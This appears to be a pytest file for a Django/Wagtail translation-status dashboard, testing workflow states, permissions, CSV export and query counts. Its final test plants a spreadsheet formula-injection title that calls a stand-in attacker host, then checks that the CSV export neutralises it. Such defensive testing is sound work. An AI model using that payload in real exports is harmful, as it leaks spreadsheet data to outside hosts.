"""The status dashboard follows real events, its counts and CSV agree with its table, and
it costs the same number of queries for 5 pages as for 500."""

import re
import uuid

import pytest
from django.core import mail
from wagtail.models import Locale, Page
from wagtail_localize.models import StringSegment, Translation, TranslationSource

from tests.localization.conftest import (
    DASHBOARD,
    csv_rows,
    new_source_page,
    put,
    refused,
    state_of,
    translation_for,
)

pytestmark = pytest.mark.django_db


def test_states_follow_the_translation_workflow(
    users, login, client, django_capture_on_commit_callbacks
):
    spanish = Locale.objects.get(language_code="es")
    page = new_source_page(users["editor"])
    editor = login(users["editor"])
    assert state_of(editor, page.title, "es") == ("missing", "")

    response = editor.post(f"/admin/localize/submit/page/{page.pk}/", {"locales": [spanish.pk]})
    assert response.status_code == 302
    assert state_of(editor, page.title, "es") == ("in_progress", "0")

    translation = translation_for(page, "es")
    segments = list(StringSegment.objects.filter(source=translation.source).order_by("order"))
    assert len(segments) == 4  # title, slug, introduction, one paragraph
    translator = login(users["translator_es"])
    spanish_text = [
        "Vivienda primero, una guía local",
        "vivienda-primero",
        "Por qué la vivienda va primero.",
        "Las ciudades abren el camino.",
    ]
    for segment, text in zip(segments[:2], spanish_text, strict=False):
        put(translator, translation, segment, text)
    assert state_of(translator, page.title, "es") == ("in_progress", "50")

    for segment, text in zip(segments[2:], spanish_text[2:], strict=True):
        put(translator, translation, segment, text)
    detail = f"/admin/translation-workflow/translation/{translation.pk}/"
    with django_capture_on_commit_callbacks(execute=True):
        assert translator.post(detail, {"action": "ready"}).status_code == 302
    assert state_of(translator, page.title, "es") == ("ready", "100")
    # The Spanish reviewer is told; the French one is not.
    assert [m.to for m in mail.outbox] == [["reviewer-es@example.org"]]
    assert detail in mail.outbox[0].body
    # A translator cannot publish their own work.
    assert refused(translator.post(detail, {"action": "publish"}))
    assert not page.get_translation(spanish).live

    reviewer = login(users["reviewer_es"])
    with django_capture_on_commit_callbacks(execute=True):
        assert reviewer.post(detail, {"action": "publish"}).status_code == 302
    assert state_of(reviewer, page.title, "es") == ("up_to_date", "100")
    target = page.get_translation(spanish)
    assert target.live and target.title == "Vivienda primero, una guía local"
    history = reviewer.get(detail).content.decode()
    assert "translator-es" in history and "reviewer-es" in history

    page.refresh_from_db()
    page.introduction = "Why housing comes first, and what it costs."
    page.save_revision(user=users["editor"]).publish(user=users["editor"])
    editor = login(users["editor"])
    assert state_of(editor, page.title, "es") == ("out_of_date", "100")

    source = TranslationSource.objects.get_for_instance(page)
    dashboard = editor.get(DASHBOARD, {"locale": "es"}).content.decode()
    assert f'aria-label="Sync {page.title} in every language"' in dashboard
    response = editor.post(f"{DASHBOARD}sync/", {"source": [source.pk]}, follow=True)
    # One set of source strings serves every language: the message names those that moved.
    assert [str(m) for m in response.context["messages"]] == [
        f"Synced “{page.title}” in Español. Nothing is published before review."
    ]
    # The changed introduction waits for the translator again: 3 of 4 strings.
    assert state_of(editor, page.title, "es") == ("in_progress", "75")


def test_reviewer_sends_back_with_a_comment(users, login):
    page = new_source_page(users["editor"], title="Participatory budgets")
    login(users["editor"]).post(
        f"/admin/localize/submit/page/{page.pk}/",
        {"locales": [Locale.objects.get(language_code="fr").pk]},
    )
    translation = translation_for(page, "fr")
    detail = f"/admin/translation-workflow/translation/{translation.pk}/"
    login(users["translator_fr"]).post(detail, {"action": "ready"})
    reviewer = login(users["reviewer_fr"])
    assert reviewer.post(detail, {"action": "send_back", "comment": ""}).status_code == 400
    response = reviewer.post(detail, {"action": "send_back", "comment": "Le titre est trop long."})
    assert response.status_code == 302
    assert state_of(reviewer, page.title, "fr") == ("in_progress", "0")
    home = login(users["translator_fr"]).get("/admin/").content.decode()
    assert "Le titre est trop long." in home
    # Spanish reviewers do not review French.
    assert refused(login(users["reviewer_es"]).post(detail, {"action": "publish"}))


def test_counts_csv_and_table_agree(admin_client, users, login, about, theme):
    french = Locale.objects.get(language_code="fr")
    new_source_page(users["editor"], title="Not submitted yet")  # missing in French
    submitted = new_source_page(users["editor"], title="Submitted")  # in progress
    login(users["editor"]).post(
        f"/admin/localize/submit/page/{submitted.pk}/", {"locales": [french.pk]}
    )
    admin_client.force_login(users["editor"])
    response = admin_client.get(DASHBOARD, {"locale": "fr"})
    html = response.content.decode()
    table_states = re.findall(r'<tr data-state="(\w+)" data-locale="fr">', html)
    counts = dict(re.findall(r'<td data-state="(\w+)">(\d+)</td>', html))
    exported = csv_rows(admin_client, locale="fr")
    # The home page, About, the two new pages, the theme.
    assert len(table_states) == len(exported) >= 5
    assert {"missing", "in_progress", "up_to_date"} <= set(table_states)
    for state in ("missing", "in_progress", "ready", "out_of_date", "up_to_date", "alias"):
        assert int(counts[state]) == table_states.count(state)
        assert int(counts[state]) == sum(1 for row in exported if row["state"] == state)
    only_up_to_date = csv_rows(admin_client, locale="fr", state="up_to_date")
    assert len(only_up_to_date) == int(counts["up_to_date"])


def test_translator_sees_their_language_by_default(users, login):
    html = login(users["translator_es"]).get(DASHBOARD).content.decode()
    assert 'data-locale="es"' in html
    assert 'data-locale="fr"' not in html


def test_filters_by_type_and_section(admin_client, home, theme):
    from core.models import FooterContent
    from events.factories import EventIndexPageFactory
    from themes.factories import ActionPlanPageFactory, ThemeIndexPageFactory, ThemePageFactory

    work_areas = ThemeIndexPageFactory(parent=home)
    area = ThemePageFactory(parent=work_areas, title="Migration and diversity")
    ActionPlanPageFactory(parent=area, title="Plan d'action sur la migration")
    EventIndexPageFactory(parent=home)
    FooterContent.objects.create(locale=home.locale, text="<p>The committee.</p>")
    rows = csv_rows(admin_client, content_type="taxonomy.theme")
    assert rows and {row["type"] for row in rows} == {"taxonomy.theme"}
    everything = csv_rows(admin_client)
    from localization.status import compute_rows, section_choices

    work_areas = dict((title, key) for key, title in section_choices(compute_rows()))["Work areas"]
    in_section = {row["title"] for row in csv_rows(admin_client, section=work_areas)}
    assert {"Work areas", "Migration and diversity", "Plan d'action sur la migration"} <= in_section
    assert "Events" not in in_section and "Footer (English)" not in in_section
    bad = csv_rows(admin_client, content_type="nope", state="nope", section="nope")
    assert len(bad) == len(everything)  # unknown filter values are dropped


def test_people_outside_the_workflow_do_not_see_it(client):
    from django.contrib.auth import get_user_model
    from django.contrib.auth.models import Permission

    user = get_user_model().objects.create_user("visitor-staff", password="pw")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    assert refused(client.get(DASHBOARD))


def _bulk_pages(count, locales):
    """`count` English pages with translation sources and translations into the other
    languages, inserted in bulk (treebeard paths by hand) to keep the test fast."""
    english = locales["en"]
    home = Page.objects.get(depth=2, locale=english)
    parent = home.add_child(instance=Page(title="Bulk", slug=f"bulk-{count}"))
    from django.contrib.contenttypes.models import ContentType
    from wagtail_localize.models import TranslatableObject

    page_type = ContentType.objects.get_for_model(Page)
    pages = [
        Page(
            title=f"Page {i}",
            draft_title=f"Page {i}",
            slug=f"p{i}",
            content_type=page_type,
            locale=english,
            path=parent.path + f"{i + 1:04X}",
            depth=parent.depth + 1,
            numchild=0,
            url_path=f"{parent.url_path}p{i}/",
            live=True,
            translation_key=uuid.uuid4(),
        )
        for i in range(count)
    ]
    Page.objects.bulk_create(pages)
    Page.objects.filter(pk=parent.pk).update(numchild=count)
    objects = TranslatableObject.objects.bulk_create(
        [
            TranslatableObject(translation_key=p.translation_key, content_type=page_type)
            for p in pages
        ]
    )
    from django.utils import timezone

    sources = TranslationSource.objects.bulk_create(
        [
            TranslationSource(
                object=o,
                specific_content_type=page_type,
                locale=english,
                object_repr="x",
                content_json="{}",
                last_updated_at=timezone.now(),
            )
            for o in objects
        ]
    )
    Translation.objects.bulk_create(
        [
            Translation(source=s, target_locale=locales[code])
            for s in sources[: count // 2]
            for code in ("fr", "es", "ar")
        ]
    )


@pytest.mark.parametrize("language", [None, "fr"])
def test_dashboard_queries_do_not_grow_with_the_pages(
    admin_client, locales, language, django_assert_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    params = {"locale": language} if language else {}
    _bulk_pages(5, locales)
    with CaptureQueriesContext(connection) as small:
        assert admin_client.get(DASHBOARD, params).status_code == 200
    _bulk_pages(500, locales)
    with django_assert_num_queries(len(small)):
        response = admin_client.get(DASHBOARD, params)
    assert response.status_code == 200
    assert "Translation status" in response.content.decode()


def test_csv_queries_do_not_grow_with_the_pages(admin_client, locales, django_assert_num_queries):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    _bulk_pages(5, locales)
    with CaptureQueriesContext(connection) as small:
        admin_client.get(DASHBOARD, {"format": "csv"})
    _bulk_pages(500, locales)
    with django_assert_num_queries(len(small)):
        rows = csv_rows(admin_client)
    assert len(rows) > 1500


def test_the_csv_neutralises_formulas_in_titles(admin_client, users):
    """A page title a spreadsheet would run (`=HYPERLINK(…)`) is exported as text."""
    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
    new_source_page(users["editor"], title=hostile)
    new_source_page(users["editor"], title="@SUM(1+1)")
    titles = {row["title"] for row in csv_rows(admin_client)}
    assert "'" + hostile in titles and "'@SUM(1+1)" in titles
    assert hostile not in titles
